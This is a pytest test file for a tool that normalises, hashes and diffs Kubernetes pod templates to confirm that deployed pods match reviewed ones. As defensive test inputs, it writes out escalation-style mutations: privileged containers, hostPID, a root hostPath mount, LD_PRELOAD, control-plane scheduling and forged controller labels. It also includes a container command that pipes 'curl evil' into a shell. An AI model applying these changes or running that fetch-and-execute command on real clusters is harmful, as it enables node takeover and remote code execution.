"""Pod templates normalized, hashed and diffed: what was inspected is what runs."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from release_readiness.podtemplate import (
    DEFAULT_ENVIRONMENT_FIELDS,
    controller_labels,
    first_difference,
    normalize_template,
    parse_field,
    template_hash,
)
from release_readiness_dev.builders import LABELS, good_container


def template() -> dict[str, Any]:
    container = good_container()
    container["env"] = [{"name": "DB_HOST", "value": "db.staging"}]
    return {"metadata": {"labels": dict(LABELS)}, "spec": {"containers": [container]}}


def digest(
    tpl: dict[str, Any], fields: Any = DEFAULT_ENVIRONMENT_FIELDS, kind: str = "Deployment", obj: Any = None
) -> str:
    generated = controller_labels(kind, obj, tpl) if obj is not None else frozenset()
    return template_hash(normalize_template(tpl, fields, generated))


def test_parse_field() -> None:
    assert parse_field("spec.containers[*].env[*].value") == ("spec", "containers", "*", "env", "*", "value")
    with pytest.raises(ValueError, match="must start with metadata or spec"):
        parse_field("containers[*].image")
    with pytest.raises(ValueError, match=r"segment 'containers\[0\]' is not a field name"):
        parse_field("spec.containers[0].image")
    with pytest.raises(ValueError, match="is not a dotted field path"):
        parse_field("spec.")


def test_environment_fields_do_not_change_the_hash() -> None:
    base = template()
    prod = copy.deepcopy(base)
    prod["metadata"]["annotations"] = {"kubectl.kubernetes.io/restartedAt": "now", "readiness.dev/scan": "{}"}
    container = prod["spec"]["containers"][0]
    container["resources"] = {"limits": {"cpu": "8"}}
    container["env"][0]["value"] = "db.prod"
    prod["spec"].update(topologySpreadConstraints=[{"maxSkew": 1}], priority=1000)
    assert digest(prod) == digest(base)


NODE = {"matchExpressions": [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]}
# Red-team finding 8: each of these was admitted under the former default allow-list.
FINDING_8 = [
    (
        lambda t: t["metadata"].update(annotations={"vault.hashicorp.com/agent-inject": "true"}),
        "metadata.annotations.vault.hashicorp.com/agent-inject",
        "true",
    ),
    (
        lambda t: t["metadata"].update(annotations={"sidecar.istio.io/inject": "false"}),
        "metadata.annotations.sidecar.istio.io/inject",
        "false",
    ),
    (
        lambda t: t["metadata"].update(annotations={"k8s.v1.cni.cncf.io/networks": "macvlan-host"}),
        "metadata.annotations.k8s.v1.cni.cncf.io/networks",
        "macvlan-host",
    ),
    (
        lambda t: t["spec"]["containers"][0]["env"].append(
            {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "billing-db", "key": "password"}}}
        ),
        "spec.containers[0].env[1].name",
        "DB_PASSWORD",
    ),
    (
        lambda t: t["spec"].update(tolerations=[{"operator": "Exists"}]),
        "spec.tolerations[0].operator",
        "Exists",
    ),
    (
        lambda t: t["spec"].update(nodeSelector={"node-role.kubernetes.io/control-plane": ""}),
        "spec.nodeSelector.node-role.kubernetes.io/control-plane",
        "",
    ),
    (
        lambda t: t["spec"].update(priorityClassName="system-node-critical"),
        "spec.priorityClassName",
        "system-node-critical",
    ),
    (
        lambda t: t["spec"].update(
            affinity={"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [NODE]}}}
        ),
        "spec.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0]"
        ".matchExpressions[0].key",
        "node-role.kubernetes.io/control-plane",
    ),
    (
        lambda t: t["metadata"]["labels"].update({"statefulset.kubernetes.io/pod-name": "payments-db-0"}),
        "metadata.labels.statefulset.kubernetes.io/pod-name",
        "payments-db-0",
    ),
    (
        lambda t: t["metadata"]["labels"].update({"pod-template-hash": "5d4f"}),
        "metadata.labels.pod-template-hash",
        "5d4f",
    ),
]


@pytest.mark.parametrize(("change", "path", "value"), FINDING_8)
def test_what_changes_behaviour_is_compared_by_default(change: Any, path: str, value: Any) -> None:
    base = template()
    prod = copy.deepcopy(base)
    change(prod)
    assert digest(prod) != digest(base)
    found = first_difference(
        normalize_template(base, DEFAULT_ENVIRONMENT_FIELDS), normalize_template(prod, DEFAULT_ENVIRONMENT_FIELDS)
    )
    assert found is not None
    assert found[0] == path
    if value is not None:
        assert found[1:] == (None, value)


def test_env_value_from_must_name_the_same_object() -> None:
    base = template()
    base["spec"]["containers"][0]["env"] = [
        {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "payments-db", "key": "password"}}}
    ]
    other = copy.deepcopy(base)
    other["spec"]["containers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"] = "billing-db"
    found = first_difference(
        normalize_template(base, DEFAULT_ENVIRONMENT_FIELDS), normalize_template(other, DEFAULT_ENVIRONMENT_FIELDS)
    )
    assert found == ("spec.containers[0].env[0].valueFrom.secretKeyRef.name", "payments-db", "billing-db")
    # The same name in another namespace holds that environment's values: equal templates.
    assert digest(copy.deepcopy(base)) == digest(base)


def test_annotation_keys_and_prefixes_can_be_listed() -> None:
    assert parse_field("metadata.annotations['checksum/config']") == ("metadata", "annotations", "'checksum/config")
    assert parse_field("metadata.annotations['example.com/*']") == ("metadata", "annotations", "'example.com/*")
    base = template()
    prod = copy.deepcopy(base)
    prod["metadata"]["annotations"] = {"checksum/config": "1", "checksum/secret": "2"}
    assert digest(prod, ["metadata.annotations['checksum/*']"]) == digest(base, ["metadata.annotations['checksum/*']"])
    assert digest(prod, ["metadata.annotations['checksum/config']"]) != digest(base)
    # Security, sidecar and network annotations stay compared even when a checklist lets all annotations differ.
    prod["metadata"]["annotations"]["sidecar.istio.io/inject"] = "false"
    assert digest(prod, ["metadata.annotations"]) != digest(base, ["metadata.annotations"])


@pytest.mark.parametrize(
    ("change", "path"),
    [
        (
            lambda s: s["containers"][0]["securityContext"].update(privileged=True),
            "containers[0].securityContext.privileged",
        ),
        (lambda s: s.update(hostPID=True), "hostPID"),
        (lambda s: s.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]), "volumes[0].hostPath.path"),
        (lambda s: s["containers"][0].update(command=["/bin/sh", "-c", "curl evil | sh"]), "containers[0].command[0]"),
        (lambda s: s["containers"][0]["env"][0].update(name="LD_PRELOAD"), "containers[0].env[0].name"),
        (lambda s: s.update(serviceAccountName="admin"), "serviceAccountName"),
    ],
)
def test_every_other_field_changes_the_hash_and_is_named(change: Any, path: str) -> None:
    base = template()
    prod = copy.deepcopy(base)
    change(prod["spec"])
    assert digest(prod) != digest(base)
    found = first_difference(
        normalize_template(base, DEFAULT_ENVIRONMENT_FIELDS), normalize_template(prod, DEFAULT_ENVIRONMENT_FIELDS)
    )
    assert found is not None
    assert found[0] == f"spec.{path}"
    assert found[1] is None or found[1] != found[2]


def test_security_annotations_are_compared_even_though_annotations_may_differ() -> None:
    base = template()
    prod = copy.deepcopy(base)
    prod["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/api": "unconfined"}
    assert digest(prod) != digest(base)
    found = first_difference(
        normalize_template(base, DEFAULT_ENVIRONMENT_FIELDS), normalize_template(prod, DEFAULT_ENVIRONMENT_FIELDS)
    )
    assert found == ("metadata.annotations.container.apparmor.security.beta.kubernetes.io/api", None, "unconfined")


def test_what_the_system_adds_is_ignored() -> None:
    base = template()
    pod = copy.deepcopy(base)
    pod["metadata"]["creationTimestamp"] = None
    pod["spec"].update(serviceAccountName="default", serviceAccount="default", preemptionPolicy="PreemptLowerPriority")
    pod["spec"].update(enableServiceLinks=True, restartPolicy="Never")
    pod["spec"]["tolerations"] = [
        {"key": f"node.kubernetes.io/{t}", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}
        for t in ("not-ready", "unreachable")
    ]
    pod["spec"]["volumes"] = [{"name": "kube-api-access-x1", "projected": {"sources": []}}]
    pod["spec"]["containers"][0]["volumeMounts"] = [{"name": "kube-api-access-x1", "mountPath": "/var/run/secrets"}]
    assert digest(pod) == digest(base)


def owned(kind: str, name: str, uid: str = "u-1") -> dict[str, Any]:
    return {"ownerReferences": [{"kind": kind, "name": name, "uid": uid, "controller": True}]}


@pytest.mark.parametrize(
    ("kind", "meta", "labels"),
    [
        ("ReplicaSet", {"name": "api-5d4f", **owned("Deployment", "api")}, {"pod-template-hash": "5d4f"}),
        ("Pod", {"name": "api-5d4f-x1", **owned("ReplicaSet", "api-5d4f")}, {"pod-template-hash": "5d4f"}),
        (
            "Pod",
            {"name": "db-2", **owned("StatefulSet", "db")},
            {
                "controller-revision-hash": "db-7b9c",
                "statefulset.kubernetes.io/pod-name": "db-2",
                "apps.kubernetes.io/pod-index": "2",
            },
        ),
        (
            "Pod",
            {"name": "agent-x", **owned("DaemonSet", "agent")},
            {"controller-revision-hash": "agent-6c8d", "pod-template-generation": "3"},
        ),
        (
            "Job",
            {"name": "migrate", "uid": "j-1"},
            {"controller-uid": "j-1", "batch.kubernetes.io/controller-uid": "j-1", "job-name": "migrate"},
        ),
        (
            "Pod",
            {"name": "migrate-x", **owned("Job", "migrate", "j-1")},
            {"batch.kubernetes.io/job-name": "migrate", "batch.kubernetes.io/controller-uid": "j-1"},
        ),
    ],
)
def test_generated_labels_are_ignored_only_where_their_controller_sets_them(
    kind: str, meta: dict[str, Any], labels: dict[str, str]
) -> None:
    base = template()
    made = copy.deepcopy(base)
    made["metadata"]["labels"].update(labels)
    obj = {"metadata": {**meta, "labels": made["metadata"]["labels"]}}
    assert controller_labels(kind, obj, made) == frozenset(labels)
    assert digest(made, DEFAULT_ENVIRONMENT_FIELDS, kind, obj) == digest(base)
    # The same labels on a person's own object (no owner), or with another value: compared.
    person = {"metadata": {"name": meta["name"], "labels": made["metadata"]["labels"]}}
    if kind != "Job":
        assert controller_labels(kind, person, made) == frozenset()
        assert digest(made, DEFAULT_ENVIRONMENT_FIELDS, kind, person) != digest(base)
    forged = copy.deepcopy(made)
    forged["metadata"]["labels"] = {k: v if k not in labels else "other" for k, v in made["metadata"]["labels"].items()}
    forged_obj = {"metadata": {**meta, "labels": forged["metadata"]["labels"]}}
    assert controller_labels(kind, forged_obj, forged) == frozenset()
    # A Deployment's template never has them.
    assert controller_labels("Deployment", obj, made) == frozenset()


def test_a_checklist_can_narrow_the_environment_fields() -> None:
    base = template()
    prod = copy.deepcopy(base)
    prod["spec"]["containers"][0]["resources"] = {"limits": {"cpu": "8"}}
    assert digest(prod, ["metadata.annotations"]) != digest(base, ["metadata.annotations"])
    assert digest(prod, ["spec.containers[*].resources"]) == digest(base, ["spec.containers[*].resources"])


def test_first_difference_reports_both_values() -> None:
    assert first_difference({"a": {"b": 1}}, {"a": {"b": 2}}) == ("a.b", 1, 2)
    assert first_difference({"a": [1]}, {"a": [1, 2]}) == ("a[1]", None, 2)
    assert first_difference({"a": 1}, {"a": 1}) is None
